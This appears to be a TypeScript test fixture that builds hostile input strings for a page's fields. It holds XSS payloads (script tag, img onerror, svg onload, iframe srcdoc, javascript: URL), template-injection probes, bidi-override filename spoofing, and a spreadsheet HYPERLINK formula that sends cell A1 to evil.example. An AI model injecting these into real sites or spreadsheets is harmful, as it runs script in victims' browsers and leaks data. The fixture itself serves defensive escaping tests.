/** Where a page of ours that runs what it is given would leave its mark. */
export const mark = "__stetActed";

/**
 * Everything that acts somewhere: markup that runs, or loads from elsewhere, in HTML and in an
 * attribute; templates of several kinds; a spreadsheet's formula; Typst; marks that turn the order of
 * what follows; characters that nobody sees.
 */
export const pieces = [
  '=HYPERLINK("https://evil.example/?"&A1)',
  `"'><script>window.${mark}="script"</script>`,
  `<img src="https://evil.example/x.png" onerror="window.${mark}='img'">`,
  `<svg/onload=window.${mark}="svg"><style>*{display:none}</style>`,
  `</title></textarea><iframe srcdoc="<script>parent.${mark}=1</script>"></iframe>`,
  `javascript:window.${mark}="url"`,
  `{{7*7}} \${7*7} <%= 7*7 %> #{7*7} {t('x')} {0} {name}`,
  '#panic("typst") $ x^2 $ @ref *bold* _it_',
  "\u202Egnp.exe\u2066\u2069\u202D \u200Bze\u200Dro\u2060\uFEFF wi\u00ADdth",
  "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034Falgo 👩‍👩‍👧‍👦 عربي",
];

/** As much of it as a field takes, each time beginning with another piece. */
export function hostile(most: number, first = 0): string {
  const turned = [
    ...pieces.slice(first % pieces.length),
    ...pieces.slice(0, first % pieces.length),
  ];
  const once = turned.join(" ");
  return once
    .repeat(Math.ceil(most / once.length))
    .slice(0, most)
    .toWellFormed()
    .trim();
}
